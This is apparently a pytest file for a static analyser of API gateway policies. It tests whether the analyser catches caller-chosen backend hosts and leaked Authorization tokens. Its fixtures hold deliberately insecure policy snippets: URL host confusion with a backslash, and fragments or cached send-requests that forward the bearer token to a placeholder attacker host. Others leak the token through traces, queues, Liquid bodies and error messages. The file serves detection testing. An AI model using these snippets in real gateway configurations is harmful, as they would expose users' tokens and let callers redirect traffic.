"""What the texts of policies come to: hosts that they name, and who reads what they carry."""

from __future__ import annotations

import time

import pytest

from constructs_lib.access import analyse, read_stacks
from tests.access.kinds import BACKEND, GATEWAY, POLICY, Case, inbound
from tests.access.samples import policy
from tests.access.test_kinds_of_policies import (
    EVIL,
    HEADER,
    TENANT_ID,
    TOKEN,
    WITH_TOKEN,
    base_url,
    echo,
    fragments,
    given_away,
    imported,
    jwt,
)

SENT = 'context.Request.Headers.GetValueOrDefault("Authorization","")'
CLAIM = f'@("https://" + {HEADER}.AsJwt()?.Id)'

CASES = [
    # Who names the host
    *(
        Case(f"the caller names the host in {what}", "SF319", base_url(expression))
        for what, expression in (
            ("the path", "@(\"https://\" + context.Request.Url.Path.Split('/')[1])"),
            (
                "a text that a builder makes",
                f'@(new StringBuilder("https://").Append({HEADER}).ToString())',
            ),
            ("a claim that nobody has checked", CLAIM),
        )
    ),
    Case(
        "a claim of a token that was checked is not the caller's choice",
        "told",
        {
            POLICY: base_url(CLAIM)[POLICY].replace(
                "<inbound><base />", f"<inbound><base />{jwt(TENANT_ID)}", 1
            )
        },
        {"gateway": "unknown"},
    ),
    Case(
        "a claim may say what the token is for",
        "SF320",
        {POLICY: policy(resource=f"@({HEADER}.AsJwt()?.Issuer)".replace('"', "&quot;"))},
    ),
    Case(
        "a claim within the host makes another",
        "error",
        base_url(f'@("https://func-orders" + {HEADER}.AsJwt()?.Id + ".azurewebsites.net")'),
    ),
    Case(
        "a backslash ends a host",
        "SF310",
        {f"{BACKEND}.url": f"https://{EVIL}\\@func-orders.azurewebsites.net/"},
    ),
    Case(
        "which of two backends counts is not known where a fragment names the second",
        "SF310",
        {
            f"resource.{GATEWAY}_policy_fragment.f": {
                "api_management_id": f"${{{GATEWAY}.gateway.id}}",
                "name": "f",
                "value": f'<fragment><set-backend-service base-url="https://{EVIL}" /></fragment>',
            },
            POLICY: inbound('<include-fragment fragment-id="f" />'),
        },
    ),
    Case(
        "a server by an anchor of YAML is not known",
        "SF901",
        imported("x: &x https://a.example\nservers:\n  - url: *x\n", "openapi"),
    ),
    Case(
        "a header whose name is written out in an expression is known",
        "clean",
        {POLICY: inbound("<set-header name='@(\"X-Env\")'><value>x</value></set-header>")},
        {"gateway": "open"},
    ),
    # Who reads the token
    Case("as text", "SF317", echo('@(Convert.ToString(context.Variables["t"]))')),
    *(
        Case(f"whoever reads {where} has it", "SF317", given_away(statement))
        for where, statement in (
            ("a replaced part of the answer", f"<find-and-replace from='x' to='@({TOKEN})' />"),
            (
                "a queue",
                f'<send-service-bus-message queue-name="q"><payload>@({TOKEN})</payload>'
                "</send-service-bus-message>",
            ),
            (
                "what a condition traces",
                f"<choose><when condition='@{{ context.Trace({TOKEN}); return true; }}' />"
                "</choose>",
            ),
            (
                "what an expression traces",
                f"<set-variable name='x' value='@{{ context.Trace({TOKEN}); return 1; }}' />",
            ),
        )
    ),
    Case(
        "what is read out of a token by another name is not the token",
        "clean",
        echo("@{ Jwt j; return " + SENT + '.TryParseJwt(out j) ? j.Subject : ""; }'),
    ),
    Case(
        "Liquid reads variables",
        "SF317",
        given_away('<set-body template="liquid">{{context.Variables.t}}</set-body>'),
    ),
    *(
        Case(
            f"credentials of a backend in {where} may replace the token",
            "told",
            {f"{BACKEND}.credentials": credentials},
            {"gateway": "unknown"},
        )
        for where, credentials in (
            ("a header", {"header": {"authorization": "x"}}),
            ("their own block", {"authorization": {"scheme": "Basic", "parameter": "x"}}),
        )
    ),
    Case(
        "whoever a check refuses reads its message",
        "SF317",
        given_away(
            '<check-header name="X" failed-check-httpcode="401" ignore-case="true" '
            f"failed-check-error-message='@({TOKEN})' />",
            after=False,
        ),
    ),
    Case(
        "a request that fills the cache is one",
        "SF310",
        given_away(
            '<cache-value key="k" variable-name="v"><value><send-request mode="new" '
            f'response-variable-name="r"><set-url>https://{EVIL}/</set-url>{WITH_TOKEN}'
            "</send-request></value></cache-value>"
        ),
    ),
    Case(
        "where a value of the cache is the host it is not known",
        "told",
        {
            POLICY: base_url('@((string)context.Variables["v"])')[POLICY].replace(
                "<inbound><base />",
                '<inbound><base /><cache-value key="k" variable-name="v"><value><set-variable '
                'name="v" value="https://func-orders.azurewebsites.net" /></value></cache-value>',
                1,
            )
        },
        {"gateway": "unknown"},
    ),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_it_is(case: Case) -> None:
    case.check()


@pytest.mark.parametrize(
    "added",
    [
        "context.RequestId.ToString()",
        "(context.RequestId.ToString() + &quot;b&quot;)",
        "&quot;b&quot;",
    ],
)
def test_what_is_added_to_a_variable_in_each_fragment_takes_no_time(added: str) -> None:
    document = fragments(8, 8)
    value = f"@((string)context.Variables[&quot;v&quot;] + {added})"
    for each in document["resource"][f"{GATEWAY}_policy_fragment"].values():
        grows = f'<fragment><set-variable name="v" value="{value}" />'
        each["value"] = each["value"].replace("<fragment>", grows)
    begun = time.process_time()
    analyse(read_stacks({"stack": document}))
    assert time.process_time() - begun < 2
